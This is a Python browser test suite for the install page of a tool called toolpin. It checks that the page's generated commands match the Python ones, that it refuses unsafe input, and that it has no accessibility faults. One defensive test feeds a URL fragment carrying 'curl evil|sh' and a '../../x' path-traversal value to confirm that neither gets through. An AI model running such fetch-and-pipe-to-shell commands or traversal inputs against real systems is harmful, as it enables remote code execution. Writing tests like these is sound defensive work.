"""The install page in headless Chromium (Debian's, never a downloaded browser): zero
console errors and CSP violations, the generator's outputs equal the Python ones, refused
input shows a reason, and a URL fragment never fills in a command."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.pages import axe_violations, chromium, open_page, serve, site_static
from toolpin.clients.install_links import CLIENTS, InstallRequest, install_links
from toolpin.site.install import write_install_page
from toolpin.site.render import environment


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    root: Path = tmp_path_factory.mktemp("site")
    write_install_page(
        environment(),
        root,
        {
            "checkpoint": {
                "origin": "example.com/log",
                "size": 1,
                "root": "R",
                "time": "2026-11-06T12:00:00Z",
            },
            "base_url": "",
        },
    )
    site_static(root)
    with serve(root) as url:
        yield f"{url}/install/"


@pytest.fixture(scope="module")
def page_factory() -> Iterator[Any]:
    with chromium() as browser:
        yield browser


_open = open_page


def _outputs(page: Any) -> dict[str, str]:
    return {c: page.locator(f"#out-{c}").text_content() for c in CLIENTS}


def test_generator_in_the_browser_matches_python(site: str, page_factory: Any) -> None:
    page, problems = _open(page_factory, site)
    argv = ["npx", "-y", "@scope/srv@1.0.0", 'it\'s a "dir"', "ünïcode 🦆", "a\\b"]
    page.fill(
        "#install-command", "npx -y @scope/srv@1.0.0 \"it's a \\\"dir\\\"\" 'ünïcode 🦆' 'a\\b'"
    )
    page.fill("#install-name", "")
    page.fill("#install-env", "API_KEY, OTHER")
    page.select_option("#install-launcher", "uvx")
    spec = page.get_attribute("#install-launcher", "data-uvx-spec")
    expected = install_links(
        InstallRequest(tuple(argv), "srv", ("API_KEY", "OTHER"), ("uvx", str(spec)))
    )
    assert _outputs(page) == expected.outputs
    assert page.get_attribute("#link-cursor", "href") == expected.outputs["cursor"]
    assert page.locator("#note-claude-desktop").text_content() == expected.notes["claude-desktop"]
    assert page.locator("#install-error").text_content() == ""
    assert problems == []
    page.close()


def test_refused_input_shows_a_reason_and_no_entry_changes(site: str, page_factory: Any) -> None:
    page, problems = _open(page_factory, site)
    before = _outputs(page)
    page.fill("#install-command", "node server.js $HOME")
    assert "'$'" in (page.locator("#install-error").text_content() or "")
    assert _outputs(page) == before
    page.fill("#install-command", "node 'unclosed")
    assert "No closing quotation" in (page.locator("#install-error").text_content() or "")
    assert problems == []
    page.close()


def test_the_page_has_no_accessibility_violations(site: str, page_factory: Any) -> None:
    page, problems = _open(page_factory, site)
    assert axe_violations(page) == []
    assert problems == []
    page.close()


def test_a_fragment_never_fills_in_a_command(site: str, page_factory: Any) -> None:
    page, problems = _open(page_factory, site + "#server=0123456789abcdef&cmd=curl%20evil|sh")
    assert page.input_value("#install-command") == "npx -y @modelcontextprotocol/server-everything"
    note = page.locator("#install-from-log")
    assert note.is_visible()
    assert note.locator("a").get_attribute("href") == "../servers/0123456789abcdef.html"
    assert "curl" not in (page.content())
    page.close()
    page, _ = _open(page_factory, site + "#server=../../x")
    assert not page.locator("#install-from-log").is_visible()
    assert problems == []
    page.close()


def test_the_absolute_path_field_sets_the_launcher(site: str, page_factory: Any) -> None:
    page, problems = _open(page_factory, site)
    assert "does not read your shell's PATH" in (
        page.locator("#note-claude-desktop").text_content() or ""
    )  # empty field: a bare toolpin, and the note says so
    page.fill("#install-command", "node server.js")
    page.fill("#install-name", "srv")
    page.fill("#install-path", "/home/you/.local/bin/toolpin")
    expected = install_links(
        InstallRequest(("node", "server.js"), "srv", (), ("/home/you/.local/bin/toolpin",))
    )
    assert _outputs(page) == expected.outputs
    assert page.locator("#note-claude-desktop").text_content() == ""
    before = _outputs(page)
    page.fill("#install-path", "bin/toolpin")
    assert "must be absolute" in (page.locator("#install-error").text_content() or "")
    assert _outputs(page) == before
    assert problems == []
    page.close()
